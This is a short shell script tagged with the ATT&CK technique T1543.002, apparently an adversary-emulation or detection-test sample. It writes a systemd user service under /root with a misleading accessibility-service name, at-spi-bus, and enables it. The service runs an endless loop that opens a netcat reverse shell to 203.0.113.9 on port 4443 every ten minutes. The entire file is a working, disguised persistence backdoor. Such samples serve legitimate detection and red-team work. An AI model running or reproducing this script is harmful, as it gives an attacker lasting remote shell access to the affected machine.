# technique: T1543.002
# location: linux.systemd.user-service
# source: /root/.config/systemd/user/at-spi-bus.service
mkdir -p /root/.config/systemd/user
printf '[Service]\nExecStart=/bin/sh -c "while :; do nc 203.0.113.9 4443 -e /bin/sh; sleep 600; done"\n[Install]\nWantedBy=default.target\n' > /root/.config/systemd/user/at-spi-bus.service
systemctl --user enable at-spi-bus.service
